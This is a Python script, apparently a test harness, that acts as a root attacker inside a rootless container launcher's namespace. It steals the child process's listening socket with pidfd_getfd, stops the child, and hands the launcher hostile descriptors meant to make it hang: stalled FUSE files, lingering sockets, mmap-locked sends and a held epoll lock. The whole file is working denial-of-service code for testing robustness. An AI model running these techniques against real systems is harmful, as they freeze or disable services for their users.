#!/usr/bin/python3
# Root inside as an attacker: takes the listener of .bp.sock from the launcher's child, stops the
# child, and answers in its place with descriptors that block whoever closes or uses them.
#
#     hostile.py MODE DIR    DIR: for the mount point, and for `ready` when the attack is on
#
# Requests for port 81 inside get what they should: a connection to an echo server.
import array
import ctypes
import json
import mmap
import os
import re
import select
import signal
import socket
import struct
import sys
import threading
import time

mode, where = sys.argv[1:3]
child = os.getppid()
# These attacks go on when the command has been killed; the launcher kills who makes them.
if mode in ("lock-in-store", "lock-draining"):
    if os.fork():
        time.sleep(600)
    os.setsid()
libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438
kept = []  # sockets that must stay open


# ---- FUSE ----

INIT, LOOKUP, GETATTR, OPEN, READ, FLUSH, INTERRUPT, POLL = 26, 1, 3, 14, 15, 25, 36, 40
FORGET, BATCH_FORGET = 2, 42
ROOT, FILE = 1, 2


def attributes(inode):
    kind = 0o40755 if inode == ROOT else 0o100666
    return struct.pack("<QQQQQQIIIIIIIIII", inode, 4096, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0, 0, 0,
                       4096, 0)


def answer_fuse(op, node, body):
    if op == INIT:
        readahead = struct.unpack("<IIII", body[:16])[2]
        return struct.pack("<IIIIHHIIHHIIHHIIIII", 7, 31, readahead, 0, 12, 10, 131072, 1,
                           0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)[:64]
    if op == LOOKUP:
        return struct.pack("<QQQQII", FILE, 0, 1000, 1000, 0, 0) + attributes(FILE)
    if op == GETATTR:
        return struct.pack("<QII", 1000, 0, 0) + attributes(node)
    if op == OPEN:
        return struct.pack("<QII", 1, 0, 0)
    return None


# Never answers READ, FLUSH and POLL.
def serve_fuse(device):
    while True:
        request = os.read(device, 1 << 20)
        op, unique, node = struct.unpack("<IQQ", request[4:24])
        if op in (FORGET, BATCH_FORGET, INTERRUPT, READ, FLUSH, POLL):
            continue
        data = answer_fuse(op, node, request[40:])
        head = struct.pack("<iQ", 0 if data is not None else -38, unique)
        data = data or b""
        os.write(device, struct.pack("<I", 16 + len(data)) + head + data)


# The server is a process of its own, which outlives the launcher's child.
def mount_fuse():
    at = where + "/fuse"
    os.mkdir(at)
    device = os.open("/dev/fuse", os.O_RDWR)
    options = "fd=%d,rootmode=40000,user_id=0,group_id=0" % device
    if libc.mount(b"fuse", at.encode(), b"fuse", 0, options.encode()) < 0:
        sys.exit("mount: " + os.strerror(ctypes.get_errno()))
    if os.fork() == 0:
        os.setsid()
        serve_fuse(device)
    os.close(device)
    return at + "/f"


# ---- sockets ----

def listening():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(16)
    kept.append(s)
    return s


# A connection whose buffers are full, and whose close(2) waits for a minute.
def lingering():
    server = listening()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s = socket.socket()
    s.connect(server.getsockname())
    s.setblocking(False)
    try:
        while True:
            s.send(b"x" * 65536)
    except BlockingIOError:
        pass
    s.setblocking(True)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def connected(server):
    s = socket.socket()
    s.connect(server.getsockname())
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


# Another process holds the lock from now on: it sends from memory that is never there.
def lock(s):
    if os.fork() == 0:
        os.setsid()
        fd = os.open(fuse_file, os.O_RDONLY)
        s.send(memoryview(mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)))
    time.sleep(0.2)


def locked():
    s = connected(listening())
    lock(s)
    return s


# Two sockets that are locked when the worker has put them in store, and one that it can use.
def lock_in_store(c):
    stored = [connected(listening()) for _ in range(2)]
    kept.extend(stored)
    send(c, [s.dup() for s in stored] + [blocking()])
    time.sleep(0.3)
    for s in stored:
        lock(s)
    open(where + "/locked", "w").close()


# The connection is locked when `end` has been there for a second, and is not idle until then.
def lock_while_draining(c):
    server = listening()
    s = connected(server)
    kept.append(s)
    send(c, [s.dup()])
    peer = server.accept()[0]
    threading.Thread(target=send_slowly, args=(peer,), daemon=True).start()
    while not os.path.exists(where + "/end"):
        time.sleep(0.02)
    time.sleep(1)
    lock(s)


def send_slowly(s):
    while True:
        s.send(b"y" * 100)
        time.sleep(0.01)


# A fresh socket that blocks in connect(2).
def blocking():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def echo(s):
    while True:
        data = s.recv(4096)
        if not data:
            return
        s.sendall(data)


def serve_echo(server):
    while True:
        s = server.accept()[0]
        threading.Thread(target=echo, args=(s,), daemon=True).start()


# ---- answering ----

def send(c, sockets, data=b"\0"):
    fds = [s if isinstance(s, int) else s.fileno() for s in sockets]
    try:
        c.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
    except OSError:
        kept.extend(sockets)  # closing the last one would block us
        raise
    for s in sockets:
        # Closing one of the FUSE files would block us too, and so does the last close of a socket.
        if not isinstance(s, int):
            threading.Thread(target=s.close, daemon=True).start()


def frame(value):
    text = json.dumps(value).encode()
    return struct.pack("<I", len(text)) + text


def hear(c):
    data = b""
    while len(data) < 4 or len(data) < 4 + struct.unpack("<I", data[:4])[0]:
        piece = c.recv(4096)
        if not piece:
            return {}
        data += piece
    return json.loads(data[4:])


def attack(c, count):
    if mode == "fuse":
        send(c, [os.open(fuse_file, os.O_RDONLY) for _ in range(min(count, 2))])
    elif mode == "linger":
        send(c, [lingering() for _ in range(min(count, 4))])
    elif mode == "lock":
        send(c, [locked()])
    elif mode == "lock-in-store" and count > 1:
        lock_in_store(c)
    elif mode == "lock-draining" and count == 1:
        lock_while_draining(c)
    elif mode == "surplus":
        send(c, [lingering() for _ in range(count + 3)])
    elif mode == "in-flight":
        late = [lingering() for _ in range(2)]
        c.sendall(frame({"Error": "no"}))
        send(c, late)
    else:
        c.sendall(frame({"Error": "no"}))


def handle(c):
    request = hear(c)
    try:
        if request.get("Port") == 81:
            s = socket.socket()
            s.connect(echo_address)
            send(c, [s])
        else:
            attack(c, request.get("Count", 1))
    except OSError as e:
        print(mode, request, e, flush=True)
    c.close()


# ---- taking over ----

def take_listener():
    pidfd = os.pidfd_open(child)
    for number in os.listdir("/proc/%d/fd" % child):
        fd = libc.syscall(PIDFD_GETFD, pidfd, int(number), 0)
        if fd < 0 or not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
            continue
        s = socket.socket(fileno=fd)
        if s.family == socket.AF_UNIX and s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            return s
    sys.exit("the listener was not found")


def take_epoll():
    pidfd = os.pidfd_open(child)
    for number in os.listdir("/proc/%d/fd" % child):
        if os.readlink("/proc/%d/fd/%s" % (child, number)) == "anon_inode:[eventpoll]":
            return libc.syscall(PIDFD_GETFD, pidfd, int(number), 0)
    sys.exit("the child's epoll instance was not found")


# Another process holds the lock of the child's epoll instance from now on, since adding a file
# polls it. The child needs that lock when it closes its descriptors, also after SIGKILL.
def hold_epoll():
    epoll = select.epoll.fromfd(take_epoll())
    fd = os.open(fuse_file, os.O_RDONLY)
    if os.fork() == 0:
        os.setsid()
        epoll.register(fd, select.EPOLLIN)
    time.sleep(0.5)
    open(where + "/ready", "w").close()
    time.sleep(600)


def parent_of(pid):
    with open("/proc/%d/status" % pid) as f:
        return int(re.search("PPid:\t(\\d+)", f.read()).group(1))


# The launcher is stopped meanwhile, so that it has the last reference to each socket.
def attack_api():
    launcher = parent_of(child)
    os.kill(launcher, signal.SIGSTOP)
    for _ in range(4):
        c = socket.socket(socket.AF_UNIX)
        c.connect(os.environ["ROOTLESSKIT_STATE_DIR"] + "/api.sock")
        kept.append(c)
        send(c, [lingering()], b"GET /v1/ports HTTP/1.1\r\n")
        send(c, [lingering()], b"Host: x\r\n\r\n")
    time.sleep(0.2)
    os.kill(launcher, signal.SIGCONT)
    time.sleep(0.2)
    os.kill(child, signal.SIGSTOP)  # the launcher has passed SIGCONT on


if mode in ("fuse", "lock", "lock-in-store", "lock-draining", "epoll"):
    fuse_file = mount_fuse()
if mode == "epoll":
    hold_epoll()
taken = take_listener()
os.kill(child, signal.SIGSTOP)
echo_server = listening()
echo_address = echo_server.getsockname()
threading.Thread(target=serve_echo, args=(echo_server,), daemon=True).start()
if mode == "lock-in-store":
    server = socket.socket()
    server.bind(("127.0.0.1", 80))
    server.listen(16)
    threading.Thread(target=serve_echo, args=(server,), daemon=True).start()
if mode == "api":
    attack_api()
open(where + "/ready", "w").close()
taken.setblocking(True)
while True:
    threading.Thread(target=handle, args=(taken.accept()[0],), daemon=True).start()
